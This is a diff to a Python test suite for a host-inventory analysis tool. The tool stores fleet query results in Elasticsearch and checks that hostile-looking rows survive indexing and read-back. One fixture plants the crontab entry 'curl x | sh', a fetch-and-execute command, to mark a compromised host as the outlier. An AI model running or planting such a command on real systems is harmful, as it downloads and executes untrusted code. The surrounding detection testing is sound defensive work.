@@ -53,6 +53,9 @@ def run_view(results: Any) -> dict[str, Any]:
     }
 
 
+DOTTED_TAGS = {"k8s.io/role": "web", "a.b": "c", "a": "d"}  # keys some servers rewrite in _source
+
+
 def tricky_run(root: Path) -> Path:
     """A small run with every case read-back must preserve."""
     base = {
@@ -73,6 +76,7 @@ def tricky_run(root: Path) -> Path:
         hosts,
         statuses={"web-008": "unreachable", "web-000": "failed"},
         query_status={"web-001": {"processes": "timeout"}},
+        identities={"web-001": {"cloud": {"provider": "aws", "tags": DOTTED_TAGS}}},
         raw_files={
             "web-005": {"users": b'[{"username": "r\\u00e9mi", "uid": 7, "shell": null}]'},
             "web-002": {"crontab": b'[{"command": "caf\xe9 \xff"}]'},  # invalid UTF-8: replaced, noted
@@ -164,3 +168,38 @@ def test_analysis_of_the_stored_run_equals_analysis_from_disk(indexed_fleet, met
     # The evidence shown is the rows as collected (pids, real names), read back from Elasticsearch.
     raw = [f for h in from_es.outliers for f in h.findings if f.kind != "missing"]
     assert raw and all(set(f.row) >= {"pid"} for f in raw if f.query == "processes")
+
+
+def test_hostile_rows_survive_indexing_and_read_back(tmp_path, es_client, names):
+    """Values and column names a compromised host could produce: very long values (beyond what a
+    keyword indexes), control characters, 600 columns, names with dots, spaces and unicode."""
+    wide = {f"c{i}": str(i) for i in range(600)}
+    odd = {"a.b": "1", "a": "2", "with space": "3", "ünï": "4", "x" * 300: "5"}
+    long_value = {"cmdline": "A" * 40_000 + "\x00\x1b[31m\u202e", "name": "evil"}
+    hosts = fleet(2, {"users": [{"username": "root", "uid": "0"}]})
+    hosts["web-001"]["processes"] = [long_value, wide, odd]
+    run = build_run(tmp_path, hosts)
+    outcome = index_results(es_client, names, open_results([run]), bulk=FAST)
+    assert outcome.report.ok, outcome.report.reasons
+    assert len(outcome.unmapped_columns[names.rows("processes")]) >= 100  # over the 500-column cap
+
+    disk = [host_view(h) for h in open_results([run]).iter_hosts()]
+    stored = [host_view(h) for h in EsResults(es_client, names, ["20261129T101500Z-a1b2c3"]).iter_hosts()]
+    assert stored == disk
+    assert list(stored[0]["rows"]["processes"][1]) == list(wide)  # column order too
+
+
+def test_two_stored_runs_analysed_together(tmp_path, es_client, names):
+    base = {"users": [{"username": "root", "uid": "0"}], "crontab": [{"command": "backup", "minute": "5"}]}
+    evil = {"crontab": [{"command": "curl x | sh", "minute": "*"}]}
+    run_a = build_run(
+        tmp_path / "a", fleet(6, base, extra={"web-002": evil}), run_id="20261129T101500Z-aaaaaa"
+    )
+    run_b = build_run(tmp_path / "b", fleet(6, base, prefix="db-"), run_id="20261129T111500Z-bbbbbb")
+    for run in (run_a, run_b):
+        assert index_results(es_client, names, open_results([run]), bulk=FAST).report.ok
+    from_disk = analyze([run_a, run_b])
+    stored = EsResults(es_client, names, ["20261129T101500Z-aaaaaa", "20261129T111500Z-bbbbbb"])
+    from_es = analyze((), results=stored)
+    assert from_es.to_json() == from_disk.to_json()
+    assert [h.host for h in from_es.outliers] == ["web-002"]
